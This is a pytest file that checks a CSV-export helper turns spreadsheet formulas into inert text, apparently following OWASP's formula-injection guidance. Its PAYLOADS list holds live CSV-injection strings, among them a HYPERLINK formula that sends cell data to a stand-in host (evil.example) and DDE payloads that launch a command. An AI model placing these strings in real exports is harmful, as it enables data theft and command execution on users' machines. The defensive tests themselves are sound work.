"""CSV cells that a spreadsheet would run as formulas are written as inert text (OWASP)."""

import csv
import io

import pytest

from server.core.csv_cells import FORMULA_TRIGGERS, csv_line, neutralize_formula

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_trigger_of_owasp_is_covered() -> None:
    assert {payload[0] for payload in PAYLOADS} == set(FORMULA_TRIGGERS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_quoted_and_prefixed(payload: str) -> None:
    line = csv_line((7, payload, "label", 0.5, None))
    assert line.startswith("7,\"'")
    assert line.endswith(',"label",0.5,""\r\n')
    [row] = list(csv.reader(io.StringIO(line, newline="")))
    assert row == ["7", "'" + payload, "label", "0.5", ""]


@pytest.mark.parametrize("text", ["refund please", "a=b", "1-2", "", "'already quoted", "  ok"])
def test_other_text_is_kept_as_it_is(text: str) -> None:
    assert neutralize_formula(text) == text
    [row] = list(csv.reader(io.StringIO(csv_line([text]), newline="")))
    assert row == [text]


@pytest.mark.parametrize("text", [" =1+1", "  \n@SUM(A1)", " -2"])
def test_spaces_before_a_formula_do_not_hide_it(text: str) -> None:
    assert neutralize_formula(text) == "'" + text


def test_quotes_commas_and_line_breaks_stay_inside_their_cell() -> None:
    text = 'say "hi",\nthen =go'
    line = csv_line([text, "x"], end="\n")
    assert line == '"say ""hi"",\nthen =go","x"\n'
    assert list(csv.reader(io.StringIO(line, newline=""))) == [[text, "x"]]


def test_numbers_are_written_bare_and_booleans_as_words() -> None:
    assert csv_line([-1, 2.5, True]) == '-1,2.5,"true"\r\n'
